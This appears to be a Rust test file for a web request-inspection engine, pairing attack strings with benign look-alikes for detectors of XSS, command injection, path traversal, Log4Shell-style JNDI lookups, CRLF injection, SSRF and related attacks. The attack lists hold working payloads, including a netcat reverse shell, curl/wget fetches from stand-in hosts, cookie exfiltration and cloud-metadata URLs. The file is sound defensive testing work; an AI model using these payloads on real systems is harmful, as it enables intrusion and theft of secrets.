//! Each detector: attacks next to look-alike legitimate inputs.

use super::Detector;
use crate::field::FieldKind;

fn check(d: Detector, kind: FieldKind, attacks: &[&str], legit: &[&str]) {
    for a in attacks {
        assert!(d.detect(a, kind).is_some(), "{}: missed {a:?}", d.name());
        // The engine only calls a detector on values that meet its declared needs.
        assert!(d.needs().admits(a), "{}: needs() misses {a:?}", d.name());
    }
    for l in legit {
        assert_eq!(d.detect(l, kind), None, "{}: flagged {l:?}", d.name());
    }
}

#[test]
fn xss_tags_handlers_urls_and_breakouts() {
    check(
        Detector::Xss,
        FieldKind::QueryValue,
        &[
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<iframe srcdoc='<script>x</script>'>",
            "<iframe src=//evil.example>",
            "<iframe/src=\"javascript:alert(1)\">",
            "<a href=\"jav\tascript:alert(1)\">x</a>",
            "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">",
            "\" onmouseover=\"alert(1)",
            "';alert(1)//",
            "\"-alert(1)-\"",
            "javascript:alert(document.cookie)",
            "<div style=\"width: expression(alert(1))\">",
            "</title><script>",
            "$<f o r m",
            "<d i a l o g",
            "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">",
            "<\"onwebkitplaybacktargetavailabilitychanged=",
            "'formaction=javascript:alert(1)",
            "\"srcdoc=<script>x</script>",
            "<object data=\"x.swf\">",
            "<base href=//evil.example/>",
            "'-new Image().src='//x.example/'+document.cookie",
            "\"-location=name-\"",
            "<script> alert`1`</script>",
            "<script >x in y</script>",
            "<script>var a = 1; alert(a)</script>",
            "<script>foo\nalert(1)</script>",
            "<script>in(alert(1))</script>",
            "<html><head><style>input[value^=a]{background:url(//x.example/a)}</style></head></html>",
            "<html><head><style>@import '//x.example/s.css';</style></head></html>",
            "<html><head><style>p{color:red}</head></html>",
            "<p>hi</p><style>p{color:red}</style>",
            "<iframe src=\"https://www.youtube.com/embed/x\" onload=\"alert(1)\"></iframe>",
            "<iframe src=\"https://www.youtube.com.evil.example/embed/x\"></iframe>",
            "<iframe src=\"https://www.youtube.com@evil.example/embed/x\"></iframe>",
            "<iframe src=\"https://evil.example/embed/x\"></iframe>",
            "<iframe srcdoc=\"x\" src=\"https://player.vimeo.com/video/1\"></iframe>",
            "<iframe src=\"https://www.youtube.com/watch?v=x\"></iframe>",
            "<iframe src=\"data:image/svg+xml;base64,PHN2Zz4=\"></iframe>",
            "<embed src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
            "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
            "<script>tags.constructor.constructor('alert(1)')()</script>",
            "<script>tag=document.cookie</script>",
            "<script>blocks(1)</script>",
        ],
        &[
            "<script> defer vs async",
            "Why does innerHTML ignore my <script> tags?",
            "the <script> element, the <script> block in the head",
            "<p><img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\" alt=\"dot\"></p>",
            "<meta charset=\"utf-8\"><b style=\"font-weight:normal;\" id=\"docs-internal-guid-3c1b2f7e-7fff-9a4d-1c2e-5f0a8b9d4e21\"><p dir=\"ltr\">Agenda</p></b>",
            "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><style>@media (max-width:600px){.col{display:block!important;width:100%!important}}</style></head><body style=\"margin:0\"><p>Receipt</p></body></html>",
            "<p>Talk:</p><iframe title=\"SSR\" width=\"640\" src=\"https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?feature=oembed\" frameborder=\"0\" allowfullscreen></iframe>",
            "<iframe src=\"https://player.vimeo.com/video/76979871?h=8272103f6e\" allow=\"autoplay; fullscreen\"></iframe>",
            "Heads up: if you see <script> tags showing up as plain text, that's intentional",
            "Login form accepts <script> in username but escapes it on display",
            "a < b and c > d",
            "<3",
            "Tom & Jerry",
            "**bold** and _italic_ markdown",
            "<b>bold</b> is fine",
            "javascript: the good parts",
            "She said \"on Monday\" and left",
            "x<y",
            "<a b c",
            "<a bold claim",
            "The form < f o r m factor",
            "<atom:link href=\"https://example.com/feed\" rel=\"self\"/>",
            "it's 'formaction' time",
            "the tag's <object> identifier",
            "has a <base> without a href",
            "Can I use <iframe> to embed the widget?",
            "This configures Node.js to interpret `--eval` or `STDIN` input",
            "--pool=\"my-pool\" --location=\"global\"",
            "| `clippy::nursery`     | new lints that are still under development |",
        ],
    );
}

#[test]
fn cmdi_needs_command_position_and_shell_shape() {
    check(
        Detector::Cmdi,
        FieldKind::QueryValue,
        &[
            "www.google.com;cat /etc/passwd",
            "127.0.0.1 && whoami",
            "x | nc -e /bin/sh 10.0.0.1 4444",
            "`id`",
            "$(curl http://evil.example/x.sh)",
            "a;c'a't /et'c'/pas's'wd",
            "host;c$@at /etc/passwd",
            "x;cat${IFS}/etc/passwd",
            "{cat,/etc/passwd}",
            "; /bin/sh -i",
            "cat /etc/passwd",
            "ls -la /",
            "x;/???/??t /???/p??s??",
            "a\nwget http://x.example/s",
            "; id",
            "; sleep 5",
            "| dir c:\\",
            "x;cat /etc/hosts",
        ],
        &[
            "echo in the mirror",
            "cats & dogs",
            "R&D",
            "a hero; more than that",
            "hello; time he came",
            "Times & Schedule",
            "time warner",
            "Tom & Jerry",
            "rm",
            "date - 2020",
            "C# and F#",
            "user@example.com",
            "Echo in the mirror; cat on the mat",
            "data:image/png;base64,iVBORw0KGgo=",
            "a;sleep,wake;repeat",
            "Goodnight; sleep 8 hours",
            "ok; dir: north",
        ],
    );
}

#[test]
fn traversal_needs_a_following_segment() {
    check(
        Detector::Traversal,
        FieldKind::QueryValue,
        &[
            "../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "....//....//etc",
            "..;/admin",
            "file=../config",
            "../../../assets/img/x.png",
            "../../WEB-INF/web.xml",
            "../../config.php",
            "../../.ssh/id_rsa.png",
            "../../etc/passwd%00.png",
            "../secret.txt",
            "..\u{2216}..\u{2216}etc\u{2216}passwd",
            "..;.\\.;\\.",
            "0x5c0x2e./",
            "0x5c0x2e.%00/",
            "0x2e0x2e0x2fetc",
            "\u{ff0e}\u{ff0e}/\u{ff0e}\u{ff0e}/etc/passwd",
            "..././..././etc/passwd",
            ".../../etc/passwd",
            "...//etc/passwd",
            "see ../../docs",
            "see ../.env",
            "see ..\\config",
            "see ../docs and ../../etc/passwd",
            "x=../config",
            "the ../config/../../x",
        ],
        &[
            "how to use ../ in bash",
            "wait... what",
            "1..10",
            "version 2..3",
            "see the docs..",
            "../assets/img/logo.png",
            "../../assets/img/x.png",
            "../../packages/ui/src/index.ts",
            "import { Button } from '../../components/ui/Button.tsx'",
            "see [the guide](../docs/setup.md) first",
            "Review the ../docs folder for the architecture notes",
            "copy it to ../build, then run make",
            "it lives in ../shared.",
            "the byte 0x2e is a dot",
            "0x2e 0x2e 0x2f in hex",
            "color 0x5c5c5c",
            ".../reference/tighten-bounds.quartz.ref.png | Bin 0 -> 335 bytes",
            "subdirectories -- e.g., .../sparc/ and .../sparcv9/.",
        ],
    );
    check(
        Detector::Traversal,
        FieldKind::Path,
        &[
            "/a/../b",
            "/static/..",
            "/x ..\\..\\windows\\win.ini",
            "/see ../../etc/passwd",
        ],
        &[
            "/a/b..c/d",
            "/v1.2/x",
            "/Copy the file to ../shared/assets before building",
            "/Review%20the%20..%2Fdocs%20folder",
        ],
    );
}

#[test]
fn hidden_path_flags_dot_segments_but_not_well_known() {
    check(
        Detector::HiddenPath,
        FieldKind::Path,
        &[
            "/.git/HEAD",
            "/.env",
            "/a/.ssh/id_rsa",
            "/.claude/settings.json",
            "/acme/repo/.git/config",
            "/.githubtoken",
            "\\.svn\\entries",
            "/.git%2Fconfig",
            "/.env%5C",
        ],
        &[
            "/.well-known/security.txt",
            "/.well-known%2Fopenid-configuration",
            "/.container%20%7B%0A%20%20display%3A%20flex%3B",
            "/acme/repo/blob/main/.github/workflows/ci.yml",
            "/acme/repo/-/blob/main/.gitlab-ci.yml",
            "/a/./b",
            "/a/../b",
            "/v1.2/x",
            "/file.json",
            "/.",
            "/a/..",
        ],
    );
}

#[test]
fn jndi_sees_through_nested_lookups() {
    check(
        Detector::Jndi,
        FieldKind::HeaderValue,
        &[
            "${jndi:ldap://x.example/a}",
            "${${lower:j}ndi:ldap://x}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
            "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x}",
            "${ jndi:dns://x}",
            "${env:AWS_SECRET_ACCESS_KEY}",
            "${sys:user.home}",
            "${env:NOPE:-${env:AWS_SECRET_ACCESS_KEY}}",
            "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
            "${dns:address|t4s2.oast.example}",
            "${url:UTF-8:http://t4s3.oast.example/}",
            "${file:UTF-8:/etc/passwd}",
            "${${lower:d}ns:address|x.example}",
        ],
        &[
            "${name}",
            "price: $5 {approx}",
            "${HOME}/bin",
            "${url:http://localhost:8080}",
            "${file:app.yml}",
            "${dns}",
            "${env:DATABASE_HOST:localhost}:${env:DATABASE_PORT:5432}",
            "jdbc:postgresql://${sys:db.host:db}/app",
        ],
    );
}

#[test]
fn crlf_needs_a_header_or_status_line() {
    check(
        Detector::Crlf,
        FieldKind::QueryValue,
        &[
            "x\r\nSet-Cookie: a=b",
            "x\nLocation: http://evil",
            "a\r\n\r\nHTTP/1.1 200 OK",
            "Support Team\u{85}Reply-To: attacker@evil.example",
            "en\u{2028}X-Forwarded-Host: evil.example",
        ],
        &[
            "Go to store.\nAt the store, shop.",
            "Zürich\u{2028}Bahnhofstrasse 1",
            "line one\nline two",
            "Note: nothing",
        ],
    );
    check(
        Detector::CrlfAny,
        FieldKind::QueryValue,
        &["a\r\nX-Anything: 1"],
        &["a\nb c: d"],
    );
}

#[test]
fn ssrf_sees_internal_hosts_in_any_spelling() {
    check(
        Detector::Ssrf,
        FieldKind::QueryValue,
        &[
            "http://127.0.0.1/admin",
            "http://localhost:8080/",
            "http://169.254.169.254/latest/meta-data/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://[fd00:ec2::254]/latest",
            "http://2130706433/",
            "http://0x7f.1/",
            "http://127.1/",
            "http://0177.0.0.1/",
            "http://[::ffff:127.0.0.1]/",
            "http://[::1]:80/",
            "http://google.com@10.0.0.5/",
            "gopher://example.com:25/_HELO",
            "http://127.0.0.1.nip.io/",
            "http://a9fea9fe.nip.io/latest/meta-data/",
            "http://app-c0a80101.nip.io/",
            "http://7f000001.a9fea9fe.rbndr.us/",
            "http://08080808.c0a80001.rbndr.us/admin",
            "http://make-1.2.3.4-rebind-169.254.169.254-rr.1u.ms/latest/",
            "https://192.168.1.1/",
            "http://consul.service.consul:8500/v1/kv/?recurse",
            "http://redis.cache.svc:6379/",
            "http://printer.local/",
            "http://router.home.arpa/",
            "postgresql://u@169.254.169.254:5432/x",
            "mysql://metadata.google.internal/x",
            "see http://host.docker.internal:2375/containers/json",
            "see http://metadata.google.internal/computeMetadata/v1/",
            "mqtt://broker.internal:1883/",
            "169.254.169.254",
            "169.254.169.254/latest/meta-data/",
            "169.254.170.2:80/v2/credentials",
            "http://localhost:6379/",
            "http://127.0.0.1:8080/manager/html",
            "http://localhost/callback?url=http://169.254.169.254/",
            "http://admin@localhost/callback",
            "http://10.0.0.5/oauth2callback",
            "gopher://localhost:6379/_callback",
            "http://internal-admin.localtest.me/",
            "http://localh.st:8080/actuator/env",
            "http://app.lvh.me:8080/x",
        ],
        &[
            "https://example.com/page",
            "http://8.8.8.8/",
            "https://www.rust-lang.org/learn",
            "http://[2001:db8::1]/",
            "http://10.example.com/",
            "user@example.com",
            "http://deadbeef.nip.io/",
            "http://08080808.01010101.rbndr.us/",
            "http://make-1.2.3.4-rebind-8.8.8.8-rr.1u.ms/",
            "https://shop.local.example.com/",
            "https://svc.example.com/",
            "https://mylvh.me/",
            "https://blog.notlocalh.st/",
            "mqtts://broker.iot.internal:8883",
            "%sql postgresql://analyst@warehouse.internal:5432/dw",
            "Runbook: https://wiki.internal/runbooks/api-5xx",
            "Base URL in staging: `http://inventory.staging.internal:8080`.",
            "169.254.169.254 is the metadata address",
            "10.0.0.1",
            // Native apps' OAuth redirect URIs (RFC 8252).
            "http://localhost:3000/api/auth/callback/github",
            "http://127.0.0.1:51004/oauth2callback",
            "http://[::1]:8400/callback",
        ],
    );
}

#[test]
fn short_needle_search_finds_what_memmem_finds() {
    let alphabet = b".:/a";
    let mut seed = 0x9e37_79b9_7f4a_7c15u64;
    for _ in 0..20_000 {
        seed = crate::testing::xorshift(seed);
        let hay: Vec<u8> = (0..seed % 24)
            .map(|k| alphabet[((seed >> (k * 2)) % 4) as usize])
            .collect();
        for needle in [&b".."[..], b"://", b"a", b""] {
            let want = if needle.is_empty() {
                None
            } else {
                memchr::memmem::find(&hay, needle)
            };
            assert_eq!(super::find_short(&hay, needle), want, "{hay:?} {needle:?}");
        }
    }
}

#[test]
fn xss_head_links_and_metas_that_only_describe_a_page() {
    check(
        Detector::Xss,
        FieldKind::BodyValue,
        &[
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<link rel=\"alternate stylesheet\" href=\"x.css\">",
            "<link rel=import href=x.html>",
            "<link href=x.css>",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "<meta charset=\"x-imap4-modified-utf7\">",
            "<meta charset=\"UTF-8\">",
            "<meta charset=\"utf-8\"><b id=\"x\">docs-internal-guid-1</b>",
            "<meta charset=\"utf-7\"><b id=\"docs-internal-guid-1\">+ADw-script+AD4-</b>",
            "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-7\">",
            "<link rel=next href=x onload=alert(1)>",
        ],
        &[
            "<link rel=\"next\" href=\"manual-intro.html\" title=\"1. Introduction\">",
            "<link rel=\"canonical\" href=\"https://example.com/docs/\" />",
            "<link rel=\"shortcut icon\" href=\"favicon.ico\">",
            "<link rel=\"alternate\" type=\"application/rss+xml\" href=\"/feed.xml\">",
            // An Atom feed: a link without rel is the entry's alternate.
            "<?xml version=\"1.0\"?><feed xmlns=\"http://www.w3.org/2005/Atom\"><link href=\"https://example.com/\"/><link rel=\"self\" href=\"https://example.com/atom.xml\"/></feed>",
            "<meta name=\"viewport\" content=\"width=device-width\">",
            // A whole document's own UTF-8 declaration (e-mail templates).
            "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Hi</title></head><body><p>Hello</p></body></html>",
            "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-8\"></head><body>x</body></html>",
        ],
    );
    check(
        Detector::Xss,
        FieldKind::BodyValue,
        &[
            "<!DOCTYPE html><html><head><meta charset=\"utf-7\"></head></html>",
            "<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\"></head></html>",
            "<?xml version=\"1.0\"?><html><head><link rel=\"stylesheet\" href=\"//evil.example/x.css\"></head></html>",
            "<?xml version=\"1.0\"?><feed><link href=\"x\" onload=\"alert(1)\"/></feed>",
        ],
        &[],
    );
}

#[test]
fn xss_dom_clobbering_but_not_ordinary_ids() {
    check(
        Detector::Xss,
        FieldKind::BodyValue,
        &[
            "<form id=x><input id=attributes><input id=parentNode></form>",
            "<a id=CONFIG></a><a id=CONFIG name=scriptSrc href=//attacker.example/x.js></a>",
            "<img name=getElementById>",
            "<form><input name=\"innerHTML\"></form>",
            "<a id=defaultAvatar><a id=defaultAvatar name=avatar href=\"cid:x\">",
        ],
        &[
            "<p id=\"intro\">Hello</p><p id=\"outro\">Bye</p>",
            "<input id=\"email\" name=\"email\" type=\"email\">",
            "<a name=\"top\" id=\"top\"></a> ... <a href=\"#top\">back to top</a>",
            "<h2 id=\"usage\">Usage</h2><a href=\"#usage\">usage</a>",
            "<div id=\"attributes-table\">",
            "Set id=attributes in the config",
        ],
    );
}

#[test]
fn gzip_serialized_inflates_to_a_java_stream() {
    // gzip of `AC ED 00 05 73 72 00 11` + "java.util.HashMap", and of "hello world".
    check(
        Detector::GzipSerialized,
        FieldKind::QueryValue,
        &[
            "H4sIAAAAAAACA1vzloG1uIhBMCuxLFGvtCQzR88jsTjDN7EAAMGIDdMZAAAA",
            // As a form decoding leaves it: `+` read as a space.
            "x=H4sIAAAAAAACA1vzloG1uIhBMCuxLFGvtCQzR88jsTjDN7EAAMGIDdMZAAAA",
        ],
        &[
            "H4sIAAAAAAACA8tIzcnJVyjPL8pJAQCFEUoNCwAAAA==",
            "H4sI not base64",
            "H4sIAAAA",
        ],
    );
}

#[test]
fn schema_location_fetches_from_hosts_a_caller_chose() {
    check(
        Detector::SchemaLocation,
        FieldKind::BodyValue,
        &[
            "urn:a http://xxe.example.net/x.xsd",
            "file:///etc/passwd",
            "\\\\attacker\\share\\x.xml",
            "urn:a //evil.example/x.xsd",
            "urn:a https://www.w3.org@evil.example/x.xsd",
        ],
        &[
            "order.xsd",
            "urn:oasis:names:specification:ubl:schema:xsd:Invoice-2 UBL-Invoice-2.1.xsd",
            "http://www.w3.org/2001/XMLSchema http://www.w3.org/2001/XMLSchema.xsd",
            "http://docs.oasis-open.org/ws-sx/ws-securitypolicy/200702 http://docs.oasis-open.org/ws-sx/ws-securitypolicy/200702/ws-securitypolicy-1.2.xsd",
        ],
    );
}

#[test]
fn xss_handlers_that_are_one_bare_name_run_nothing() {
    check(
        Detector::Xss,
        FieldKind::BodyValue,
        &[
            "<img src=x onerror=alert(1)>",
            "<x onclick=\"alert`1`\">",
            "<svg onload=location=name>",
            "<b onmouseover='a=1'>",
            "<img onerror>",
        ],
        &[
            "<?xml version=\"1.0\"?><QBXML><QBXMLMsgsRq onError=\"stopOnError\"><InvoiceAddRq/></QBXMLMsgsRq></QBXML>",
            "<Job onFailure='retry'><Step/></Job>",
        ],
    );
}
